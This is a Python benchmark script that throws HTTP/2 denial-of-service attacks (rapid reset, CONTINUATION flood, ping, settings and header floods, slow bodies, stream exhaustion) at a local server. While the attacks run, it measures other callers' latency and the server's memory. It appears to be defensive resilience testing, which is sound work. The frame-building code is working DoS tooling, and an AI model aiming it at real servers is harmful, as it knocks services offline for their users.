"""Attacks of strangers on a server that runs, and what another caller notices meanwhile.

``python bench/attacks.py --port 8443 --pid 4711 --token "$TOKEN"`` sends each attack in turn over
cleartext HTTP from 127.0.0.2, asks for /livez and for a list of organizations from 127.0.0.1, and
prints the median, the 99th percentile and the longest time of these, and the memory of the process
before, at its peak and after. The attacker and the server share this machine's processors, so give
the server more of them (`nice`, `taskset`) for figures that mean something.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import multiprocessing
import struct
import threading
import time
from collections import Counter
from typing import TYPE_CHECKING

import psutil

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterable

    Attack = Callable[[asyncio.StreamWriter, argparse.Namespace], Awaitable[None]]

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_SPACING = 0.02  # between two requests of the caller
_AFTERWARDS = 8.0  # until the memory is looked at again


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    """A string of HPACK (RFC 7541 section 5.2), not encoded."""
    size, head = len(value), bytearray()
    if size < 127:
        return bytes([size]) + value.encode()
    head.append(127)
    size -= 127
    while size >= 128:
        head.append(size % 128 | 128)
        size //= 128
    return bytes([*head, size]) + value.encode()


def _block(verb: str, path: str, more: Iterable[tuple[str, str]] = ()) -> bytes:
    pseudo = ((":method", verb), (":path", path), (":scheme", "http"), (":authority", "localhost"))
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in (*pseudo, *more))


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
_FORM = [("content-type", "application/x-www-form-urlencoded")]
_POST = _block("POST", "/oauth/token", _FORM)
_GET = _block("GET", "/.well-known/openid-configuration")
_LARGE = _block("GET", "/livez", [(f"x-{n:03}", "v" * 300) for n in range(90)])


async def _open_streams(writer: asyncio.StreamWriter, given: argparse.Namespace) -> None:
    writer.write(_PREFACE)
    for number in range(given.streams):
        writer.write(_frame(_HEADERS, _END_HEADERS, 1 + 2 * number, _POST))
    await writer.drain()
    await asyncio.Event().wait()


async def _slow_bodies(writer: asyncio.StreamWriter, given: argparse.Namespace) -> None:
    writer.write(_PREFACE)
    streams = range(1, 2 * min(given.streams, 100), 2)
    for stream in streams:
        writer.write(_frame(_HEADERS, _END_HEADERS, stream, _POST))
    while True:
        for stream in streams:
            writer.write(_frame(_DATA, 0, stream, b"a"))
        await writer.drain()
        await asyncio.sleep(0.5)


async def _reset(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    headers = _END_HEADERS | _END_STREAM
    cancel = struct.pack(">I", 8)
    await _repeat(
        writer,
        100,
        lambda n: _frame(_HEADERS, headers, n, _GET) + _frame(_RST_STREAM, 0, n, cancel),
    )


async def _flood(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    await _repeat(writer, 100, lambda n: _frame(_HEADERS, _END_HEADERS | _END_STREAM, n, _GET))


async def _large_headers(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    def one(stream: int) -> bytes:
        first = _frame(_HEADERS, _END_STREAM, stream, _LARGE[:16000])
        return first + _frame(_CONTINUATION, _END_HEADERS, stream, _LARGE[16000:])

    await _repeat(writer, 20, one)


async def _continuation(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    more = b"\0" + _text("x-more") + _text("b" * 1000)
    writer.write(_PREFACE + _frame(_HEADERS, _END_STREAM, 1, _GET))
    while True:
        writer.write(_frame(_CONTINUATION, 0, 1, more) * 10)
        await writer.drain()


async def _pings(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    writer.write(_PREFACE)
    while True:
        writer.write(_frame(_PING, 0, 0, b"x" * 8) * 200)
        await writer.drain()


async def _settings(writer: asyncio.StreamWriter, _: argparse.Namespace) -> None:
    writer.write(_PREFACE)
    while True:
        writer.write(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 200)
        await writer.drain()


async def _repeat(writer: asyncio.StreamWriter, at_once: int, one: Callable[[int], bytes]) -> None:
    writer.write(_PREFACE)
    stream = 1
    while True:
        writer.write(b"".join(one(stream + 2 * n) for n in range(at_once)))
        stream += 2 * at_once
        await writer.drain()
        await asyncio.sleep(0)


ATTACKS: dict[str, Attack] = {
    "open": _open_streams,
    "slow": _slow_bodies,
    "reset": _reset,
    "continuation": _continuation,
    "large": _large_headers,
    "flood": _flood,
    "pings": _pings,
    "settings": _settings,
}


async def _attack_by_one(attack: Attack, given: argparse.Namespace) -> None:
    """Attack over one connection, and again over the next one when it is closed."""
    while True:
        with contextlib.suppress(OSError):
            local = (given.attacker, 0)
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", given.port, local_addr=local
            )
            sending = asyncio.ensure_future(attack(writer, given))
            closed = asyncio.ensure_future(_swallow(reader))
            await asyncio.wait((sending, closed), return_when=asyncio.FIRST_COMPLETED)
            for task in (sending, closed):
                task.cancel()
            writer.close()
        await asyncio.sleep(0.05)


async def _swallow(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


def _attack(name: str, given: argparse.Namespace) -> None:
    async def all_of_them() -> None:
        async with asyncio.timeout(given.seconds):
            ones = (_attack_by_one(ATTACKS[name], given) for _ in range(given.connections))
            await asyncio.gather(*ones)

    with contextlib.suppress(TimeoutError):
        asyncio.run(all_of_them())


async def _ask(path: str, given: argparse.Namespace, times: list[float], bad: Counter[str]) -> None:
    request = f"GET {path} HTTP/1.1\r\nhost: localhost\r\n"
    if given.token:
        request += f"authorization: Bearer {given.token}\r\n"
    writer = None
    while True:
        began = time.perf_counter()
        try:
            if writer is None:
                reader, writer = await asyncio.open_connection("127.0.0.1", given.port)
            writer.write(f"{request}\r\n".encode())
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            size = int(head.partition(b"content-length:")[2].split(b"\r\n")[0])
            await reader.readexactly(size)
            if head.split()[1] != b"200":
                bad[head.split()[1].decode()] += 1
        except (OSError, EOFError, ValueError) as problem:
            bad[type(problem).__name__] += 1
            writer = None
        times.append(time.perf_counter() - began)
        await asyncio.sleep(_SPACING)


def _as_another_caller(seconds: float, given: argparse.Namespace) -> None:
    found: dict[str, tuple[list[float], Counter[str]]] = {}

    async def ask() -> None:
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for path in ("/livez", "/api/v1/organizations?page_size=1"):
                found[path] = [], Counter()
                group.create_task(_ask(path, given, *found[path]))

    with contextlib.suppress(TimeoutError):
        asyncio.run(ask())
    for path, (times, bad) in found.items():
        times.sort()
        shown = {f"p{share}": times[int(len(times) * share / 100)] for share in (50, 99)} or {}
        figures = " ".join(f"{name} {value * 1000:.0f} ms" for name, value in shown.items())
        print(
            f"  {path}: {len(times)} requests, {figures}, at most {times[-1] * 1000:.0f} ms", end=""
        )
        print(f", {dict(bad)}" if bad else "")


def main() -> None:
    """Send the attacks, one after the other."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attacks", nargs="*", choices=[*ATTACKS, []], default=list(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True, help="the process that serves")
    parser.add_argument("--token", default="", help="an access token for the list")
    parser.add_argument("--attacker", default="127.0.0.2", help="the address to attack from")
    parser.add_argument("--connections", type=int, default=40)
    parser.add_argument("--streams", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=10)
    given = parser.parse_args()
    process = psutil.Process(given.pid)
    for name in given.attacks:
        memory = [process.memory_info().rss]
        over = threading.Event()

        def watch(memory: list[int] = memory, over: threading.Event = over) -> None:
            while not over.wait(0.2):
                memory.append(process.memory_info().rss)

        watching = threading.Thread(target=watch)
        watching.start()
        attacker = multiprocessing.Process(target=_attack, args=(name, given))
        attacker.start()
        print(name)
        _as_another_caller(given.seconds, given)
        attacker.join()
        time.sleep(_AFTERWARDS)
        over.set()
        watching.join()
        before, peak, after = memory[0], max(memory), process.memory_info().rss
        print(
            f"  memory {before / 1e6:.0f} MB, {peak / 1e6:.0f} MB, {after / 1e6:.0f} MB afterwards"
        )


if __name__ == "__main__":
    main()
